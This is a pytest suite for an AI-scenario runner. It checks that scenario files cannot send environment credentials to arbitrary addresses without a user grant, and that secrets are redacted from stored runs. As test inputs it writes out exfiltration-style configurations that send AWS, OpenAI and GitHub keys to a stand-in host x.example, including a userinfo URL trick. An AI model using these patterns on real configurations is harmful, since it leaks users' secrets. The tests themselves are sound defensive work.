"""A scenario file sends a credential of the environment to an address of its choice only if the user allows it."""

import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from inline_snapshot import snapshot

from tests.support.project import UserProject
from tests.support.provider import LoopbackProvider, Say

SCENARIO = """\
scenario: least
adapter: openai
model: gpt-5.4-mini
user_message: Hello
assertions:
  - {type: jmespath, path: final_output, operator: exists}
adapter_options:
"""
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "aws-secret-0123456789",
    "OPENAI_API_KEY": "sk-proj-0123456789",
    "GITHUB_TOKEN": "github-token-0123456789",
    "GROQ_API_KEY": "groq-0123456789",
    "MY_GATEWAY_KEY": "gateway-0123456789",
    "GATEWAY": "gateway.example",
}


@pytest.fixture(autouse=True)
def _environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)


def validate(project: UserProject, options: str, *arguments: str) -> tuple[int, str]:
    project.write("scenarios/s.yaml", f"{SCENARIO}{options}")
    project.environ = dict(SECRETS)
    result = project.salvo("validate", "scenarios/s.yaml", *arguments)
    for value in list(SECRETS.values())[:5]:
        assert value not in result.output
    return result.exit_code, result.stdout


@pytest.mark.parametrize(
    "options, name",
    [
        ("  base_url: http://x.example/${AWS_SECRET_ACCESS_KEY}\n", "AWS_SECRET_ACCESS_KEY"),
        ("  base_url: http://x.example/${MY_GATEWAY_KEY}\n", "MY_GATEWAY_KEY"),
        ("  base_url: http://x.example\n  api_key: ${OPENAI_API_KEY}\n", "OPENAI_API_KEY"),
        ("  base_url: http://x.example\n  api_key: ${GITHUB_TOKEN}\n", "GITHUB_TOKEN"),
        ("  base_url: http://x.example\n  headers: {x: 'a ${GITHUB_TOKEN}'}\n", "GITHUB_TOKEN"),
        ("  base_url: https://api.openai.com@x.example/\n  api_key: ${OPENAI_API_KEY}\n", "OPENAI_API_KEY"),
        ("  base_url: http://api.groq.com/\n  api_key: ${GROQ_API_KEY}\n", "GROQ_API_KEY"),
        ("  api_key: ${AWS_SECRET_ACCESS_KEY}\n", "AWS_SECRET_ACCESS_KEY"),
    ],
)
def test_a_credential_goes_to_an_address_of_the_file_only_with_a_grant(
    project: UserProject, options: str, name: str
) -> None:
    code, output = validate(project, options)
    assert code == 2
    line = 7 + next(number for number, text in enumerate(options.splitlines(), 1) if name in text)
    assert f"s.yaml:{line}:" in output
    assert f"use --allow-env {name}" in output
    assert project.salvo("run", "scenarios/s.yaml").exit_code == 2
    assert validate(project, options, "--allow-env", "OTHER")[0] == 2
    code, output = validate(project, options, "--allow-env", name)
    assert code == 0, output


@pytest.mark.parametrize(
    "options",
    [
        "  api_key: ${OPENAI_API_KEY}\n",
        "  base_url: https://api.openai.com/v1\n  api_key: ${OPENAI_API_KEY}\n",
        "  base_url: https://api.groq.com/openai/v1\n  api_key: ${GROQ_API_KEY}\n",
        "  base_url: http://${GATEWAY}:80/v1\n  api_key: ${MY_GATEWAY_KEY}\n",
        "  base_url: http://x.example/$${AWS_SECRET_ACCESS_KEY}\n",
    ],
)
def test_what_is_no_credential_or_goes_to_its_own_service_needs_no_grant(project: UserProject, options: str) -> None:
    code, output = validate(project, options)
    assert code == 0, output


def test_where_calls_go_is_printed_with_the_names_of_the_variables(project: UserProject) -> None:
    _, output = validate(project, "  base_url: http://${GATEWAY}:80/v1\n  api_key: ${MY_GATEWAY_KEY}\n")
    assert output == snapshot("""\
1 scenario is valid.
Calls go to http://gateway.example:80/v1, with GATEWAY, MY_GATEWAY_KEY.
""")
    granted = "  base_url: http://x.example/${AWS_SECRET_ACCESS_KEY}\n"
    _, output = validate(project, granted, "--allow-env", "AWS_SECRET_ACCESS_KEY")
    assert "Calls go to http://x.example/${AWS_SECRET_ACCESS_KEY}, with AWS_SECRET_ACCESS_KEY." in output


def test_run_prints_where_calls_go_on_stderr(project: UserProject) -> None:
    with LoopbackProvider(Say("hi")) as provider:
        project.write("scenarios/s.yaml", f"{SCENARIO}  base_url: {provider.openai_url}\n")
        project.environ = {}
        ran = project.salvo("run", "scenarios/s.yaml", "--json")
    assert f"Calls go to {provider.openai_url}." in ran.stderr
    assert "Calls go to" not in ran.stdout


def test_a_grant_is_in_the_users_settings_and_not_in_the_project(
    project: UserProject, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    options = "  base_url: http://x.example\n  api_key: ${OPENAI_API_KEY}\n"
    outside = tmp_path_factory.mktemp("outside")
    settings = outside / "salvo/settings.toml"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(outside))
    settings.parent.mkdir(parents=True)
    link = outside / "link"
    link.symlink_to(project.folder)
    table = f'[projects."{link}"]\nallow_env = ["OPENAI_API_KEY"]\n'
    settings.write_text('[projects."/elsewhere"]\nallow_env = ["OPENAI_API_KEY"]\n')
    assert validate(project, options)[0] == 2
    settings.write_text(table)
    assert validate(project, options)[0] == 0
    project.write(".config/salvo/settings.toml", table)
    for folder in (str(project.folder / ".config"), ".config"):
        monkeypatch.setenv("XDG_CONFIG_HOME", folder)
        monkeypatch.setenv("HOME", str(project.folder))
        assert validate(project, options)[0] == 2


def test_values_of_variables_and_secret_literals_are_nowhere_in_the_store(
    project: UserProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = "import os; print(os.environ['X'], os.environ['SERVICE_TOKEN'], os.environ['DEBUG'], '1 max')"
    project.write("agent.py", program)
    command = f"  command: [{sys.executable}, agent.py]\n  env: {{X: '${{FAVOURITE}}', SERVICE_TOKEN: quiet-literal, DEBUG: '${{ONE}}'}}\n"
    scenario = SCENARIO.replace("adapter: openai", "adapter: command").replace("model: gpt-5.4-mini\n", "")
    project.write("scenarios/s.yaml", scenario + command)
    monkeypatch.setenv("FAVOURITE", "strawberry-jam")
    monkeypatch.setenv("ONE", "1")
    project.environ = {"FAVOURITE": "strawberry-jam", "ONE": "1"}
    ran = project.salvo("run", "scenarios/s.yaml", "--record")
    assert ran.exit_code == 0, ran.output
    stored = project.everything_stored()
    assert "strawberry-jam" not in stored
    assert "quiet-literal" not in stored
    assert "[redacted] [redacted] 1 1 max" in stored, "a short value is in too many harmless places"
    replayed = project.salvo("replay", "latest")
    assert "strawberry-jam" not in replayed.output


def test_a_provider_s_key_is_given_to_no_part_of_a_command(project: UserProject) -> None:
    scenario = SCENARIO.replace("adapter: openai", "adapter: command").replace("model: gpt-5.4-mini\n", "")
    options = f"  command: [{sys.executable}, '${{OPENAI_API_KEY}}', 'https://x.example/${{AWS_SECRET_ACCESS_KEY}}']\n"
    project.write("scenarios/s.yaml", scenario + options)
    project.environ = dict(SECRETS)
    output = project.salvo("validate", "scenarios/s.yaml", "--allow-env", "OPENAI_API_KEY").stdout
    assert "a provider's key is never given to a command" in output
    assert "use --allow-env AWS_SECRET_ACCESS_KEY" in output


@pytest.mark.parametrize(
    "content, problem",
    [
        (b"[projects", "cannot be read"),
        (b"\xff\xfe", "cannot be read"),
        (b"projects = 1\n", "is not valid"),
        (b"[projects]\n'/a' = 1\n", "is not valid"),
        (b"[projects.'/a']\nallow_env = 'OPENAI_API_KEY'\n", "is not valid"),
        (b"[projects.'/a']\nallow_env = [1]\n", "is not valid"),
        (b"[projects.'~nobody-of-this-name/a']\nallow_env = ['OPENAI_API_KEY']\n", "is not valid"),
        (b'[projects."/a\\u0000"]\nallow_env = ["OPENAI_API_KEY"]\n', "is not valid"),
    ],
)
def test_invalid_settings_are_an_error_with_the_right_form(
    project: UserProject, tmp_path_factory: pytest.TempPathFactory, content: bytes, problem: str
) -> None:
    config = tmp_path_factory.mktemp("config")
    (config / "salvo").mkdir()
    (config / "salvo/settings.toml").write_bytes(content)
    options = "  base_url: http://x.example\n  api_key: ${OPENAI_API_KEY}\n"
    project.write("scenarios/s.yaml", f"{SCENARIO}{options}")
    project.environ = {**SECRETS, "XDG_CONFIG_HOME": str(config)}
    for command in ("validate", "run"):
        refused = project.salvo(command, "scenarios/s.yaml")
        assert refused.exit_code == 2
        assert "settings.toml" in refused.stderr
        assert problem in refused.stderr
        assert 'allow_env = ["NAME"]' in refused.stderr
        assert "Traceback" not in refused.output


@pytest.fixture
def interrupted(project: UserProject) -> Iterator[tuple[UserProject, LoopbackProvider]]:
    """A batch of two runs that was started with a grant. Its second run is missing."""
    with LoopbackProvider(Say("hi")) as provider:
        options = f"  base_url: {provider.openai_url}\n  api_key: ${{OPENAI_API_KEY}}\n"
        project.write("scenarios/s.yaml", f"{SCENARIO}{options}")
        project.environ = dict(SECRETS)
        ran = project.salvo("run", "scenarios/s.yaml", "-n", "2", "--allow-env", "OPENAI_API_KEY")
        assert ran.exit_code == 0, ran.output
        project.runs()[-1].unlink()
        yield project, provider


def test_resume_needs_the_grant_again(interrupted: tuple[UserProject, LoopbackProvider]) -> None:
    project, provider = interrupted
    before = len(provider.requests)
    refused = project.salvo("run", "--resume", "latest")
    assert refused.exit_code == 2
    assert "use --allow-env OPENAI_API_KEY" in refused.output
    assert len(provider.requests) == before
    assert project.salvo("run", "--resume", "latest", "--allow-env", "OTHER").exit_code == 2
    resumed = project.salvo("run", "--resume", "latest", "--allow-env", "OPENAI_API_KEY")
    assert resumed.exit_code == 0, resumed.output
    assert len(project.runs()) == 2
    assert provider.requests[-1].headers["authorization"] == f"Bearer {SECRETS['OPENAI_API_KEY']}"


def test_a_batch_that_an_earlier_version_redacted_less_can_be_resumed(project: UserProject) -> None:
    project.write("agent.py", "print('hi')")
    scenario = SCENARIO.replace("adapter: openai", "adapter: command").replace("model: gpt-5.4-mini\n", "")
    options = f"  command: [{sys.executable}, agent.py, quiet-literal]\n  env: {{SERVICE_TOKEN: quiet-literal, X: a}}\n"
    project.write("scenarios/s.yaml", scenario + options)
    assert project.salvo("run", "scenarios/s.yaml", "-n", "2").exit_code == 0
    [batch] = (project.store / "batches").glob("*.json")
    stored = batch.read_text()
    assert "quiet-literal" not in stored
    batch.write_text(stored.replace("[redacted]", "quiet-literal"))  # as version 0.1.0 stored it
    project.runs()[-1].unlink()
    project.write("scenarios/s.yaml", scenario + options.replace("X: a", "X: b"))
    changed = project.salvo("run", "--resume", "latest")
    assert (changed.exit_code, "has changed since the batch" in changed.stderr) == (2, True)
    project.write("scenarios/s.yaml", scenario + options)
    resumed = project.salvo("run", "--resume", "latest")
    assert resumed.exit_code == 0, resumed.output
    assert len(project.runs()) == 2
